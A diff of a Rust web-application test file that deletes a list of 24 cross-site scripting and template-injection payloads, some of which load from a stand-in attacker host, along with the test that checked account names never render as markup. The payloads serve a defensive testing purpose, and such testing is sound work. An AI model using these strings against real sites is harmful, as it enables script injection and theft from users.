@@ -3,52 +3,6 @@
 use crate::http::{ask, raw};
 use crate::world::{manager, world};
 
-/// Names that try to become markup or script, or to leave a table.
-const PAYLOADS: [&str; 24] = [
-    "<script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<style>@import'//evil.example'</style>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<object data=//evil.example>",
-    "<form action=//evil.example><button>",
-    "{{ 7*7 }}",
-    "${alert(1)}",
-    "\u{202e}<b>gnp.exe",
-    "&lt;script&gt;",
-    "<x onclick=alert(1)>",
-];
-
-#[tokio::test]
-async fn names_of_accounts_never_become_markup() {
-    let w = world().await;
-    let client = w.client("xh0002").await;
-    for (number, payload) in PAYLOADS.iter().enumerate() {
-        let case = w.file(&format!("{payload}{number}"), payload, manager("XH")).await;
-        for path in ["/".to_owned(), "/cases".to_owned(), format!("/cases/{case}")] {
-            let page = client.get(&path).await.body;
-            let is_markup = payload.starts_with('<') || payload.contains("><");
-            assert!(!is_markup || !page.contains(payload), "{payload} stands in {path}");
-            assert!(
-                !page.contains("<img") && !page.contains("<iframe") && !page.contains("onerror=alert(1)>"),
-                "{path}"
-            );
-        }
-    }
-}
-
 #[tokio::test]
 async fn a_link_of_an_account_is_shown_but_never_script() {
     let w = world().await;
